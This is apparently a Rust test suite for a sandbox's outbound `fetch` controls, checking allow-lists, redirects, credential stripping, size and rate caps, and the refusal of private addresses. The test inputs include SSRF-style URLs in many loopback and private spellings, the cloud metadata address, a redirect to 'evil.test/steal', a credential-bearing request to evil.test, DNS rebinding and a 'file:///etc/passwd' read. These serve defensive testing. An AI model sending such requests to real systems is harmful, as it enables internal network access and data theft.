//! `fetch` against a real server on this machine, and against everything that it must not reach.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use convoke_domain::allow_list::{DomainAllowList, DomainPattern};
use convoke_sandbox::egress::{EgressError, EgressSettings, Resolver, Resolving};
use convoke_sandbox::{Execution, Grant, Sandbox, SandboxSettings};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::support::{given, json, program};

/// A server that answers each request by its path, and keeps what it was sent.
struct Server {
    address: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
    /// Ends with the server.
    _serving: tokio::task::JoinSet<()>,
}

impl Server {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let (address, seen) = (listener.local_addr().unwrap(), Arc::new(Mutex::new(Vec::new())));
        let kept = Arc::clone(&seen);
        let serving = async move {
            // Connections that get no answer stay open, so that only the client can end them.
            let mut silent = Vec::new();
            while let Ok((mut stream, _)) = listener.accept().await {
                let request = read(&mut stream).await;
                let answer = answer(&request, address);
                kept.lock().unwrap().push(request);
                match answer {
                    Some(answer) => stream.write_all(&answer).await.unwrap(),
                    None => silent.push(stream),
                }
            }
        };
        let mut tasks = tokio::task::JoinSet::new();
        tasks.spawn(serving);
        Self { address, seen, _serving: tasks }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

async fn read(stream: &mut tokio::net::TcpStream) -> String {
    let mut bytes = Vec::new();
    let mut chunk = [0; 4096];
    loop {
        let count = stream.read(&mut chunk).await.unwrap();
        bytes.extend_from_slice(&chunk[..count]);
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let Some((head, body)) = text.split_once("\r\n\r\n") else {
            assert!(count > 0, "a request without an end");
            continue;
        };
        let length = head
            .lines()
            .find_map(|line| line.strip_prefix("content-length: "))
            .map_or(0, |text| text.parse().unwrap());
        if body.len() >= length {
            return text;
        }
    }
}

fn answer(request: &str, address: SocketAddr) -> Option<Vec<u8>> {
    let path = request.split(' ').nth(1).unwrap();
    let plain = |status: &str, headers: &str, body: &[u8]| {
        let head = format!(
            "HTTP/1.1 {status}\r\n{headers}content-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        );
        Some([head.as_bytes(), body].concat())
    };
    let redirect = |status: &str, to: &str| plain(status, &format!("location: {to}\r\n"), b"");
    match path {
        "/json" => plain("200 OK", "content-type: application/json\r\nx-a: 1\r\n", br#"{"ok":"\u00fc"}"#),
        "/bytes" => plain("200 OK", "", &[0, 255, 128]),
        "/echo" => plain("201 Created", "", request.as_bytes()),
        "/hop" => redirect("302 Found", "/json"),
        "/loop" => redirect("302 Found", "/loop"),
        "/away" => redirect("302 Found", &format!("http://other.shop.test:{}/json", address.port())),
        "/forbidden" => redirect("307 Temporary Redirect", "http://evil.test/steal"),
        "/metadata" => redirect("302 Found", "http://169.254.169.254/latest"),
        "/large" => plain("200 OK", "", &vec![b'x'; 5 * 1024 * 1024]),
        "/silent" => None,
        _ => plain("404 Not Found", "", b"no"),
    }
}

/// Names for tests: every host has these addresses, the last of them also for all later lookups.
#[derive(Debug)]
struct Names {
    lookups: Mutex<Vec<String>>,
    answers: Vec<Vec<[u8; 4]>>,
}

impl Default for Names {
    fn default() -> Self {
        Self { lookups: Mutex::default(), answers: vec![vec![[127, 0, 0, 1]]] }
    }
}

impl Resolver for Names {
    fn resolve<'a>(&'a self, host: &'a str, port: u16) -> Resolving<'a> {
        let mut lookups = self.lookups.lock().unwrap();
        let answer = self.answers[lookups.len().min(self.answers.len() - 1)].clone();
        lookups.push(host.to_owned());
        Box::pin(async move { Ok(answer.into_iter().map(|ip| SocketAddr::from((ip, port))).collect()) })
    }
}

fn sandbox(allow_private: bool, own_listeners: Vec<SocketAddr>, names: Names) -> (Sandbox, Arc<Names>) {
    let names = Arc::new(names);
    let egress =
        EgressSettings { allow_private, own_listeners, resolver: Arc::clone(&names) as Arc<dyn Resolver> };
    (
        Sandbox::new(SandboxSettings { instances_max: 16, egress, ..SandboxSettings::default() }).unwrap(),
        names,
    )
}

async fn run(sandbox: &Sandbox, body: &str, hosts: &[&str]) -> Execution {
    let program = program(sandbox, &format!("async function lambda(input) {{ {body} }}"));
    let patterns = hosts.iter().map(|host| DomainPattern::parse(host).unwrap()).collect();
    let mut run = given("{}");
    run.grant = Grant::to(DomainAllowList::Listed(patterns));
    sandbox.run(&program, run).await
}

/// What a refused request throws: its code.
async fn refusal(sandbox: &Sandbox, url: &str, hosts: &[&str]) -> String {
    let body = format!(
        "try {{ await fetch('{url}'); return 'answered'; }} catch (e) {{ return [e.name, e.code].join(' '); }}"
    );
    json(run(sandbox, &body, hosts).await).as_str().unwrap().to_owned()
}

#[tokio::test]
async fn a_permitted_host_answers_with_status_headers_and_body() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![], Names::default());
    let port = server.address.port();
    let body = format!(
        "const r = await fetch('http://api.shop.test:{port}/json'); const b = await fetch('http://api.shop.test:{port}/bytes'); const n = await fetch('http://api.shop.test:{port}/none');
         return [r.status, r.ok, r.headers.get('x-a'), (await r.json()).ok, [...await b.bytes()], n.status, n.ok, await n.text()];"
    );
    let execution = run(&sandbox, &body, &["*.shop.test"]).await;
    assert_eq!(execution.calls.len(), 3);
    assert_eq!((execution.calls[0].host.as_str(), execution.calls[0].status), ("api.shop.test", Some(200)));
    assert_eq!(execution.recording.entries.len(), 3);
    assert_eq!(json(execution), json!([200, true, "1", "ü", [0, 255, 128], 404, false, "no"]));
}

#[tokio::test]
async fn method_headers_and_body_are_sent_as_asked_and_ours_are_not_overruled() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![], Names::default());
    let body = format!(
        "const r = await fetch('http://api.shop.test:{}/echo', {{ method: 'PUT', headers: {{ 'X-B': '2', Host: 'evil.test', Authorization: 'Bearer t' }}, body: JSON.stringify({{ a: 'ü' }}) }}); return await r.text();",
        server.address.port()
    );
    let echoed = json(run(&sandbox, &body, &["api.shop.test"]).await);
    let echoed = echoed.as_str().unwrap();
    assert!(echoed.starts_with("PUT /echo HTTP/1.1") && echoed.ends_with(r#"{"a":"ü"}"#), "{echoed}");
    assert!(
        echoed.contains("x-b: 2")
            && echoed.contains("authorization: Bearer t")
            && echoed.contains("host: api.shop.test:"),
        "{echoed}"
    );
    assert!(!echoed.contains("evil"), "{echoed}");
}

#[tokio::test]
async fn redirects_are_followed_a_few_times_and_lose_credentials_on_the_way_to_another_host() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![], Names::default());
    let base = format!("http://api.shop.test:{}", server.address.port());
    let body = format!(
        "const a = await fetch('{base}/hop'); const b = await fetch('{base}/away', {{ headers: {{ authorization: 'secret' }} }}); const c = await fetch('{base}/hop', {{ redirect: 'manual' }});
         return [a.redirected, a.url.endsWith('/json'), b.status, c.status];"
    );
    assert_eq!(json(run(&sandbox, &body, &["*.shop.test"]).await), json!([true, true, 200, 302]));
    let seen = server.requests();
    assert!(seen[2].contains("authorization: secret") && !seen[3].contains("secret"), "{seen:?}");
    assert_eq!(
        refusal(&sandbox, &format!("{base}/loop"), &["*.shop.test"]).await,
        "TypeError too_many_redirects"
    );
}

#[tokio::test]
async fn hosts_that_are_not_listed_are_refused_also_behind_a_redirect() {
    let server = Server::start().await;
    let (sandbox, names) = sandbox(true, vec![], Names::default());
    let base = format!("http://api.shop.test:{}", server.address.port());
    assert_eq!(
        refusal(&sandbox, "https://evil.test/", &["api.shop.test"]).await,
        "TypeError host_not_allowed"
    );
    assert!(names.lookups.lock().unwrap().is_empty(), "a refused name must not even be looked up");
    assert_eq!(
        refusal(&sandbox, &format!("{base}/forbidden"), &["api.shop.test"]).await,
        "TypeError host_not_allowed"
    );
    assert_eq!(
        refusal(&sandbox, &format!("{base}/away"), &["api.shop.test"]).await,
        "TypeError host_not_allowed"
    );
    let execution =
        run(&sandbox, "try { await fetch('https://u:p@evil.test/?token=1') } catch { return 1 }", &[]).await;
    assert_eq!(
        (execution.calls[0].host.as_str(), execution.calls[0].error.as_deref()),
        ("evil.test", Some("host_not_allowed"))
    );
}

#[tokio::test]
async fn addresses_that_are_not_public_are_refused_in_every_spelling() {
    let (sandbox, _) = sandbox(false, vec![], Names::default());
    let urls = [
        "http://127.0.0.1/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://10.0.0.1/",
        "http://169.254.169.254/latest",
        "http://100.64.0.1/",
        "http://[fd00::1]/",
        "http://0.0.0.0/",
        "http://localhost.test/",
    ];
    for url in urls {
        let program = program(
            &sandbox,
            &format!(
                "async function lambda() {{ try {{ await fetch('{url}'); }} catch (e) {{ return e.code; }} }}"
            ),
        );
        let mut run = given("{}");
        run.grant = Grant::to(DomainAllowList::Any);
        assert_eq!(json(sandbox.run(&program, run).await), json!("address_not_allowed"), "{url}");
    }
}

#[tokio::test]
async fn a_redirect_is_judged_by_address_as_a_request_of_its_own() {
    let server = Server::start().await;
    let own = vec![SocketAddr::from(([169, 254, 169, 254], 80))];
    let (sandbox, _) = sandbox(true, own, Names::default());
    let url = format!("http://api.shop.test:{}/metadata", server.address.port());
    assert_eq!(
        refusal(&sandbox, &url, &["api.shop.test", "169.254.169.254"]).await,
        "TypeError address_not_allowed"
    );
}

#[tokio::test]
async fn our_own_listeners_are_never_reached_even_where_private_addresses_are() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![server.address], Names::default());
    let url = format!("http://api.shop.test:{}/json", server.address.port());
    assert_eq!(refusal(&sandbox, &url, &["*.shop.test"]).await, "TypeError address_not_allowed");
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn a_name_that_changes_its_address_gains_nothing() {
    let server = Server::start().await;
    let url = format!("http://rebind.shop.test:{}/json", server.address.port());
    // What was looked up is what is connected to: one lookup per request, and a changed answer counts for the next one.
    let names = Names { answers: vec![vec![[127, 0, 0, 1]], vec![[127, 0, 0, 2]]], ..Names::default() };
    let (open, names) = sandbox(true, vec![], names);
    assert_eq!(refusal(&open, &url, &["*.shop.test"]).await, "answered");
    assert_eq!(names.lookups.lock().unwrap().len(), 1);
    assert_eq!(refusal(&open, &url, &["*.shop.test"]).await, "TypeError failed");
    assert_eq!(server.requests().len(), 1);
    // A good address beside a bad one does not help.
    let mixed = Names { answers: vec![vec![[93, 184, 216, 34], [127, 0, 0, 1]]], ..Names::default() };
    let (guarded, _) = sandbox(false, vec![], mixed);
    assert_eq!(refusal(&guarded, &url, &["*.shop.test"]).await, "TypeError address_not_allowed");
}

#[tokio::test]
async fn sizes_schemes_and_rates_are_capped() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![], Names::default());
    let base = format!("http://api.shop.test:{}", server.address.port());
    assert_eq!(
        refusal(&sandbox, &format!("{base}/large"), &["*.shop.test"]).await,
        "TypeError response_too_large"
    );
    assert_eq!(refusal(&sandbox, "file:///etc/passwd", &["*.shop.test"]).await, "TypeError bad_url");
    let body = format!(
        "const all = await Promise.all(Array.from({{ length: 25 }}, () => fetch('{base}/json'))); return all.filter((r) => r.status === 429).length;"
    );
    assert_eq!(json(run(&sandbox, &body, &["*.shop.test"]).await), json!(5));
}

#[tokio::test]
async fn an_aborted_request_rejects_and_is_recorded_as_such() {
    let server = Server::start().await;
    let (sandbox, _) = sandbox(true, vec![], Names::default());
    let url = format!("http://api.shop.test:{}/silent", server.address.port());
    let body = format!(
        "const c = new AbortController(); setTimeout(() => c.abort(), 20); try {{ await fetch('{url}', {{ signal: c.signal }}); }} catch (e) {{ return e.name; }}"
    );
    let execution = run(&sandbox, &body, &["*.shop.test"]).await;
    assert_eq!(execution.calls.len(), 1);
    assert_eq!(execution.calls[0].error.as_deref(), Some("aborted"));
    assert_eq!(json(execution), json!("AbortError"));
}

#[tokio::test]
async fn a_trace_tells_every_hop_and_which_of_them_the_list_lacks() {
    let server = Server::start().await;
    let (open, _) = sandbox(true, vec![], Names::default());
    let domains = DomainAllowList::Listed(vec![DomainPattern::parse("shop.test").unwrap()]);
    let base = format!("http://shop.test:{}", server.address.port());
    let hops = open.egress().trace(&domains, format!("{base}/away").parse().unwrap()).await;
    let told: Vec<_> = hops.iter().map(|hop| (hop.url.host_str().unwrap(), hop.permitted)).collect();
    assert_eq!(told, [("shop.test", true), ("other.shop.test", false)]);
    assert_eq!((&hops[0].outcome, &hops[1].outcome), (&Ok(302), &Ok(200)));

    let endless = open.egress().trace(&domains, format!("{base}/loop").parse().unwrap()).await;
    assert_eq!(endless.last().unwrap().outcome, Err(EgressError::TooManyRedirects));

    let (guarded, _) = sandbox(false, vec![], Names::default());
    let inside = guarded.egress().trace(&domains, format!("{base}/json").parse().unwrap()).await;
    assert_eq!(inside[0].outcome, Err(EgressError::AddressNotAllowed("shop.test".to_owned())));
}
